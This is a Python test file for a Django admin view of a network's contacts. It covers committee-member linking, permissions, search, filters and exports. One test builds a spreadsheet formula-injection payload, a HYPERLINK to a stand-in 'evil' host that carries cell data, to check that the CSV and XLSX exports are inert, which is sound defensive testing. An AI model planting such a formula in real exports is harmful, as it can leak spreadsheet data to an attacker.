"""The network's contacts (issue 12, item 6): partners, institutions and funders, for the
coordination only, with search, filters, inspect view and exports; a contact who sits on a
committee is linked to that member's account."""

import io
import re

import pytest
from openpyxl import load_workbook

from network.coordination.models import NetworkContact
from tests.factories import TerritoryFactory, UserFactory

pytestmark = pytest.mark.django_db

N = "/admin/coordination/networkcontact/"
ATTACK = '=HYPERLINK("http://evil/"&F2,"x")'


def contact_data(**overrides):
    data = {
        "organisation": "Conseil départemental",
        "person": "Marie Roig",
        "role": "Cheffe de service jeunesse",
        "kind": "financeur",
        "email": "marie.roig@example.org",
        "phone": "04 68 00 00 00",
        "territory": "",
        "committee_member": "",
        "notes": "",
    }
    return data | overrides


def test_the_coordination_adds_a_contact_linked_to_a_committee_member(client_as, users):
    territory = TerritoryFactory(name="Conflent")
    response = client_as("coordination").post(
        N + "create/", contact_data(territory=territory.pk, committee_member=users["financeurs"].pk)
    )
    assert response.status_code == 302
    contact = NetworkContact.objects.get()
    assert contact.committee_member == users["financeurs"] and contact.territory == territory
    assert contact.committee_names() == "Comité des financeurs"
    assert users["financeurs"].network_contact == contact


def test_only_committee_members_accounts_are_offered(client_as, users):
    response = client_as("coordination").get(N + "create/")
    choices = {str(value) for value, _ in response.context["form"].fields["committee_member"].choices if value}
    committee_ids = {str(users[role].pk) for role in ("pilotage", "financeurs", "technique")}
    assert choices == committee_ids


def test_a_promeneur_account_cannot_be_linked_even_by_posting(client_as, users):
    response = client_as("coordination").post(N + "create/", contact_data(committee_member=users["promeneur"].pk))
    assert response.status_code == 200
    assert response.context["form"].errors["committee_member"]
    assert 'value="Conseil départemental"' in response.content.decode()
    assert not NetworkContact.objects.exists()


def test_missing_or_malformed_fields_get_french_messages_and_keep_what_was_typed(client_as):
    response = client_as("coordination").post(N + "create/", contact_data(organisation="", email="pas-une-adresse"))
    errors = response.context["form"].errors
    assert errors["organisation"] == ["Champ requis."]
    assert errors["email"] == ["Saisissez une adresse de courriel valide."]
    assert "Marie Roig" in response.content.decode()


@pytest.fixture
def contacts(users):
    conflent = TerritoryFactory(name="Conflent")
    return {
        "caf": NetworkContact.objects.create(organisation="Caf des Pyrénées-Orientales", kind="financeur"),
        "college": NetworkContact.objects.create(
            organisation="Collège Pompeu Fabra", person="Jordi Vila", kind="education", territory=conflent
        ),
        "mairie": NetworkContact.objects.create(
            organisation="Mairie de Prades", kind="collectivite", committee_member=users["pilotage"]
        ),
    }


def listed(response):
    assert response.status_code == 200
    return {contact.organisation for contact in response.context["view"].queryset}


def test_search_and_filters(client_as, contacts):
    client = client_as("coordination")
    assert len(listed(client.get(N))) == 3
    assert listed(client.get(N, {"q": "jordi"})) == {"Collège Pompeu Fabra"}
    assert listed(client.get(N, {"kind": "financeur"})) == {"Caf des Pyrénées-Orientales"}
    assert listed(client.get(N, {"territory__id__exact": contacts["college"].territory_id})) == {"Collège Pompeu Fabra"}
    assert listed(client.get(N, {"comite": "Comité de pilotage"})) == {"Mairie de Prades"}
    assert listed(client.get(N, {"comite": "aucun"})) == {"Caf des Pyrénées-Orientales", "Collège Pompeu Fabra"}


def test_the_inspect_view_names_the_committee_and_its_member(client_as, contacts, users):
    member = users["pilotage"]
    member.first_name, member.last_name = "Hélène", "Dupré"
    member.save()
    body = client_as("coordination").get(f"{N}inspect/{contacts['mairie'].pk}/").content.decode()
    assert "Mairie de Prades" in body and "Comité de pilotage" in body
    assert "Hélène Dupré" in body and f">{member.username}<" not in body


def test_the_listing_costs_the_same_queries_for_more_contacts(client_as, contacts, django_assert_max_num_queries):
    client = client_as("coordination")
    client.get(N)
    with django_assert_max_num_queries(60) as small:
        client.get(N)
    for index in range(15):
        member = UserFactory(username=f"membre{index}", role="technique")
        NetworkContact.objects.create(
            organisation=f"Organisme {index}", committee_member=member, territory=TerritoryFactory()
        )
    with django_assert_max_num_queries(len(small.captured_queries)):
        client.get(N)


def test_the_exports_are_inert(client_as, users):
    NetworkContact.objects.create(organisation=ATTACK, person="+33 6", notes="@SOMME(A1)", kind="partenaire")
    client = client_as("coordination")
    response = client.get(N, {"export": "csv"})
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Organisme;Personne;Fonction;Type;E-mail;Téléphone;Territoire")
    assert "'+33 6" in text and "'@SOMME(A1)" in text and "Partenaire" in text
    sheet = load_workbook(io.BytesIO(client.get(N, {"export": "xlsx"}).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [cell.data_type for cell in cells if cell.value == ATTACK] == ["s"]


@pytest.mark.parametrize("role", ["promeneur", "pilotage", "financeurs", "technique"])
def test_nobody_else_reaches_the_contacts(client_as, contacts, role):
    response = client_as(role).get(N)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_an_empty_value_reads_a_dash_as_elsewhere_in_the_admin(client_as):
    contact = NetworkContact.objects.create(organisation="Mairie d'Elne", person="Jean Py", kind="collectivite")
    TerritoryFactory()
    client = client_as("coordination")
    listing = client.get("/admin/coordination/networkcontact/").content.decode()
    inspect = client.get(f"/admin/coordination/networkcontact/inspect/{contact.pk}/").content.decode()
    for body in (listing, inspect):
        assert "—" in body and not re.search(r">\s*-\s*<", body)
